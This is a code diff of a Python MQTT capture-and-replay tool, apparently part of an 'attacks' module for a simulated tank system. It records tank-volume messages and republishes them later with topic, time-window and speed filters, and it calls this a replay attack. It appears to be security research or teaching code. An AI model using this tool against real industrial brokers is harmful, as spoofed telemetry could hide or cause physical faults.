@@ -1,8 +1,15 @@
+import os
+import sys
 import time
 import json
+import asyncio
 import threading
 import paho.mqtt.client as mqtt
 
+sys.path.append(os.path.abspath(os.path.join(os.path.dirname(__file__), '..')))
+from attacks.capture_store import CaptureWriter, CaptureReader
+from attacks.replay_engine import replay_capture, format_report
+
 TOPICS = [ # Topics to subscribe to
     "tank/tank1/volume", "tank/tank2/volume", "tank/tank3/volume", 
     "tank/tank4/volume", "tank/tank5/volume", "tank/tank6/volume",
@@ -12,34 +19,40 @@ TOPICS = [ # Topics to subscribe to
 ]
 
 """
-    Captures MQTT messages for a specified time and stores them within a JSON file
-    for later extraction and usage.
+    Captures MQTT messages for a specified time and streams them to a JSON Lines
+    capture file (see attacks/capture_store.py) for later extraction and usage.
+    Messages are written in blocks as they arrive, so memory use does not grow
+    with the length of the capture.
 
     Parameters:
         broker <string>: MQTT broker address (same as one in main.py)
         port <int>: MQTT broker port (same as one in main.py)
         topics <list>: List of topics to subscribe to
         capture_time <int>: Duration (in seconds) of capture time
-        output_file <string>: The file to send captured messages to
+        output_file <string>: The file to send captured messages to (gzip-compressed if it ends in .gz)
+        verbose <bool>: Print every captured message
 """
 def capture_messages(
     broker="127.0.0.1", 
     port=1883, 
     topics=TOPICS,
     capture_time=10,  # Duration for capturing messages in seconds
-    output_file="captured_data.json" # The output file to store captured data
+    output_file="captured_data.jsonl", # The output file to store captured data
+    verbose=True
 ):
-    captured_messages = []
+    try:
+        writer = CaptureWriter(output_file)
+    except Exception as e:
+        print(f"[CAPTURE] Failed to open capture file: {e}")
+        return
 
-    # Constructs a dictionary entry for a captured topic and payload
+    # Appends the captured topic and payload to the capture file
     def on_message(client, userdata, msg):
-        message_entry = {
-            "timestamp": time.time(),
-            "topic": msg.topic,
-            "payload": msg.payload.decode("utf-8")
-        }
-        captured_messages.append(message_entry)
-        print(f"[CAPTURE] {message_entry}")
+        timestamp = time.time()
+        payload = msg.payload.decode("utf-8")
+        writer.write(timestamp, msg.topic, payload)
+        if verbose:
+            print(f"[CAPTURE] {msg.topic}: {payload}")
 
     # Create a new client (keep the protocol, removing it causes capture issues)
     client = mqtt.Client(protocol=mqtt.MQTTv5)
@@ -50,6 +63,7 @@ def capture_messages(
         client.connect(broker, port, keepalive=60)
     except Exception as e:
         print(f"[CAPTURE] Could not connect to MQTT broker: {e}")
+        writer.close()
         return
     
     # Subscribe to the specified topics
@@ -64,72 +78,81 @@ def capture_messages(
     client.loop_stop()
     client.disconnect()
 
-    # Write all captured messages to output file
+    # Write the last block and close the capture file
     try:
-        with open(output_file, "w") as f:
-            json.dump(captured_messages, f, indent=4)
-        print(f"[CAPTURE] Saved {len(captured_messages)} messages to {output_file}")
+        writer.close()
+        print(f"[CAPTURE] Saved {writer.count} messages to {output_file}")
     except Exception as e:
         print(f"[CAPTURE] Failed to write captured data to file: {e}")
 
 """
-    Replays all captured MQTT messages from a JSON file
-    at approximately the same time they were originally captured
+    Opens a capture file and returns an iterator over its messages.
+    Captures from capture_messages are streamed from a memory-mapped file;
+    older captures (a single JSON list) are still loaded as a whole.
+
+    Parameters:
+        input_file <string>: The file to get captured messages from
+        start <float>: Only messages captured at or after this time (epoch seconds)
+        end <float>: Only messages captured at or before this time (epoch seconds)
+        topics <list>: Only messages on these topics
+"""
+def open_capture(input_file="captured_data.jsonl", start=None, end=None, topics=None):
+    with open(input_file, "rb") as f:
+        legacy = f.read(1) == b"["
+    if not legacy:
+        reader = CaptureReader(input_file)
+        try:
+            yield from reader.messages(start=start, end=end, topics=topics)
+        finally:
+            reader.close()
+        return
+
+    with open(input_file, "r") as f:
+        messages = json.load(f)
+    for msg in messages:
+        if start is not None and msg["timestamp"] < start:
+            continue
+        if end is not None and msg["timestamp"] > end:
+            break
+        if topics is None or msg["topic"] in topics:
+            yield msg
+
+"""
+    Replays captured MQTT messages from a capture file at the time they were
+    originally captured, scaled by a speed multiplier
+    (see attacks/replay_engine.py for the asyncio engine doing the work)
 
     Parameters:
         broker <string>: MQTT broker address (same as one in main.py)
         port <int>: MQTT broker port (same as one in main.py)
         input_file <string>: The file to get captured messages from
+        start <float>: Only replay messages captured at or after this time (epoch seconds)
+        end <float>: Only replay messages captured at or before this time (epoch seconds)
+        topics <list>: Only replay messages on these topics
+        speed <float|string>: Time multiplier (0.1 to 1000), or "max" for as fast as possible
 """
 def replay_messages(
     broker="127.0.0.1",
     port=1883,
-    input_file="captured_data.json"
+    input_file="captured_data.jsonl",
+    start=None,
+    end=None,
+    topics=None,
+    speed=1.0
 ):
-    # Open the input file to read from it
+    print("[REPLAY] Starting replay of captured messages...")
     try:
-        with open(input_file, "r") as f:
-            messages = json.load(f)
+        report = asyncio.run(replay_capture(input_file, broker, port, speed, start, end, topics))
     except Exception as e:
-        print(f"[REPLAY] Failed to read captured messages: {e}")
+        print(f"[REPLAY] Replay failed: {e}")
         return
 
-    # Exits if there are no captured messages
-    if not messages:
+    # Exits if there were no captured messages
+    if not report["messages"]:
         print("[REPLAY] No messages to replay.")
         return
-    
-    # Connect to MQTT client
-    client = mqtt.Client(protocol=mqtt.MQTTv5)
-    try:
-        client.connect(broker, port, keepalive=60)
-    except Exception as e:
-        print(f"[REPLAY] Could not connect to MQTT broker: {e}")
-        return
-    
-    # Begin replay attack
-    client.loop_start()
-    print("[REPLAY] Starting replay of captured messages...")
-
-    # Use first timestamp as base for relative timing
-    base_time = messages[0]["timestamp"]
-    replay_start = time.time()
-
-    # Replay every message with the same spacing
-    for msg in messages:
-        original_offset = msg["timestamp"] - base_time
-        delay = (replay_start + original_offset) - time.time()
-        if delay > 0:
-            time.sleep(delay)
-
-        topic = msg["topic"]
-        payload = msg["payload"]
-        client.publish(topic, payload)
-        print(f"[REPLAY] Published to {topic}: {payload}")
-
-    client.loop_stop()
-    client.disconnect()
-    print("[REPLAY] Completed replay of messages.")
+    print(f"[REPLAY] Completed replay of messages: {format_report(report)}")
+    return report
 
 """
     A simple function that first captures messages using the capture_messages
@@ -141,15 +164,17 @@ def replay_messages(
         topics <list>: List of topics to subscribe to
         capture_time <int>: Duration (in seconds) of capture time
         output_file <string>: The file to send captured messages to
+        speed <float|string>: Replay time multiplier, or "max" for as fast as possible
 """
 def capture_and_replay(
         broker="127.0.0.1",
         port=1883,
         topics=TOPICS,
         capture_time=10,
-        file_name="captured_data.json"
+        file_name="captured_data.jsonl",
+        speed=1.0
 ):
     capture_messages(broker, port, topics, capture_time, file_name)
     time.sleep(2)
-    replay_messages(broker, port, file_name)
+    replay_messages(broker, port, file_name, speed=speed)
 